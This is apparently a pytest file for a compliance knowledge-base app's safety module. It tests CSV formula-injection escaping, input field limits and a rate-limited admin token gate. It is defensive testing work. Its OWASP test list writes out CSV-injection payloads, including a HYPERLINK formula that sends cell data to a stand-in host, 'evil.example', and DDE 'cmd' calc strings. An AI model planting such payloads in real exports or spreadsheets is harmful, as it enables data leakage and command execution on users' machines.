"""kb.safety: formula-safe CSV cells in every CSV export, field limits, the token gate."""

from __future__ import annotations

import csv
import io
import logging
from dataclasses import replace

import pytest
from test_feedback import NOW, bot_answer

from kb.answers.feedback import (
    MAX_COMMENT_CHARS,
    MAX_MISSING_REFS,
    MAX_REF_CHARS,
    FeedbackStore,
    feedback_for,
    to_csv,
)
from kb.errors import BadInput, TokenRefused
from kb.safety import Attempts, TokenGate, check_field, csv_cell, csv_text

# OWASP "CSV Injection" examples and the other characters its guidance lists.
OWASP = [
    ('=HYPERLINK("http://evil.example?leak="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example?leak="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("=1+1", "'=1+1"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.mark.parametrize("value, expected", OWASP)
def test_formula_cells_get_a_leading_apostrophe(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", ["Article 50(1)", "2026-08-02", "a=b", "x-1", "", "'quoted"])
def test_ordinary_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_csv_text_reads_back_with_every_formula_neutralised():
    text = csv_text(["header", "=evil"], [[value, 1] for value, _ in OWASP])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["header", "'=evil"]
    assert [row[0] for row in rows[1:]] == [expected for _, expected in OWASP]


def test_a_line_break_inside_a_cell_never_starts_a_row_with_a_formula():
    text = csv_text(["a", "b"], [["x\r=1+1", "y\n@SUM(1)"], ["z", "w"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "b"], ["x\r=1+1", "y\n@SUM(1)"], ["z", "w"]]
    assert [line.split(",")[0] for line in text.split("\r\n")] == ["a", '"x\r=1+1"', "z", ""]


def test_feedback_csv_neutralises_challenge_fields(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add(feedback_for(bot_answer(), corpus_version="v", rating=-1,
                           missing=["=HYPERLINK(\"http://x\")", "@SUM(1+1)"],
                           comment="+cmd|' /C calc'!A0"), now=NOW)
    row = next(csv.DictReader(io.StringIO(to_csv(store.all()))))
    assert row["missing"] == "'=HYPERLINK(\"http://x\"); @SUM(1+1)"
    assert row["comment"] == "'+cmd|' /C calc'!A0"


def test_checklist_csv_neutralises_every_cell(assistant):
    checklist = assistant.checklist("deployer", "customer_service_chatbot", as_of="2026-11-27")
    item = checklist.items[0]
    # A catalogue maintainer's typo (or a hostile edit) must not reach a spreadsheet as a formula.
    hostile = replace(item, status="=1+1", obligation=replace(
        item.obligation, title="@SUM(1+1)", summary="-2+3", refs=("+cmd|' /C calc'!A0",)))
    rows = list(csv.reader(io.StringIO(replace(checklist, items=(hostile,)).to_csv(),
                                       newline="")))
    assert rows[0] == ["status", "id", "title", "summary", "refs", "applies_from", "roles"]
    assert rows[1][:5] == ["'=1+1", item.obligation.id, "'@SUM(1+1)", "'-2+3",
                           "'+cmd|' /C calc'!A0"]


def test_feedback_fields_over_their_limits_get_one_line_errors():
    answer = bot_answer()
    with pytest.raises(BadInput, match=f"^comment is 5,001 characters long; the limit is "
                                       f"{MAX_COMMENT_CHARS:,}$"):
        feedback_for(answer, corpus_version="v", comment="x" * (MAX_COMMENT_CHARS + 1))
    with pytest.raises(BadInput, match=f"^missing citation is 2,000,000 characters long; the "
                                       f"limit is {MAX_REF_CHARS}$"):
        feedback_for(answer, corpus_version="v", missing=["A" * 2_000_000])
    with pytest.raises(BadInput, match=f"^missing citations name 21 refs; the limit is "
                                       f"{MAX_MISSING_REFS}$"):
        feedback_for(answer, corpus_version="v",
                     missing=[f"Article {n}" for n in range(MAX_MISSING_REFS + 1)])
    # a BadInput is still a ValueError, which the Ask page reports as "Feedback not saved"
    assert issubclass(BadInput, ValueError)


def test_check_field_strips_and_names_the_field():
    assert check_field("name", "  Claims bot \n", 20) == "Claims bot"
    assert check_field("comment", "line one\nline two", 50, multiline=True) == \
        "line one\nline two"
    with pytest.raises(BadInput, match="^name must not be empty$"):
        check_field("name", "   ", 20, required=True)
    with pytest.raises(BadInput, match=r"^name contains a control character \(U\+000A\)"):
        check_field("name", "two\nlines", 20)
    with pytest.raises(BadInput, match=r"^comment contains a control character \(U\+0007\)"):
        check_field("comment", "bell\x07", 20, multiline=True)
    with pytest.raises(BadInput, match="^name must be text, got int$"):
        check_field("name", 3, 20)


# --- the token gate ---------------------------------------------------------------------------


class Clock:
    """A clock the test moves by hand (no sleeping)."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_five_wrong_tokens_are_free_then_the_delay_doubles():
    clock = Clock()
    gate = TokenGate("s3cret", name="admin token", clock=clock)
    attempts = Attempts()
    for n in range(1, 5):
        assert gate.check(f"wrong-{n}", attempts) is False
        assert gate.wait_left(attempts) == 0
    assert gate.check("wrong-5", attempts) is False
    assert gate.wait_left(attempts) == 2.0
    # While the delay runs even the right token is not checked.
    with pytest.raises(TokenRefused, match="too many wrong admin tokens in this session; "
                                           "try again in 2 s"):
        gate.check("s3cret", attempts)
    clock.now += 2.0
    assert gate.check("wrong-6", attempts) is False
    assert gate.wait_left(attempts) == 4.0
    clock.now += 4.0
    assert gate.check("wrong-7", attempts) is False
    assert gate.wait_left(attempts) == 8.0
    assert [gate.delay_after(n) for n in (4, 5, 6, 7, 12, 20)] == [0, 2, 4, 8, 256, 300]
    clock.now += 8.0
    assert gate.check("s3cret", attempts) is True
    assert (attempts.failures, gate.wait_left(attempts)) == (0, 0)


def test_the_same_value_rechecked_on_a_rerun_does_not_count_again():
    gate = TokenGate("s3cret", clock=Clock())
    attempts = Attempts()
    for _ in range(10):  # Streamlit reruns the page with the box still filled in
        assert gate.check("wrong", attempts) is False
    assert attempts.failures == 1
    assert gate.check("s3cret", attempts) is True
    assert gate.check("s3cret", attempts) is True


def test_failed_attempts_are_logged_without_the_token(caplog):
    gate = TokenGate("s3cret", name="reviewer token", clock=Clock())
    with caplog.at_level(logging.WARNING, logger="kb.safety"):
        gate.check("my-guess-123", Attempts())
    assert caplog.messages == ["wrong reviewer token entered (1 wrong in this session)"]
    assert "my-guess-123" not in caplog.text and "s3cret" not in caplog.text


def test_no_configured_token_refuses_everything():
    with pytest.raises(TokenRefused, match="no admin token is configured"):
        TokenGate("", name="admin token").check("", Attempts())
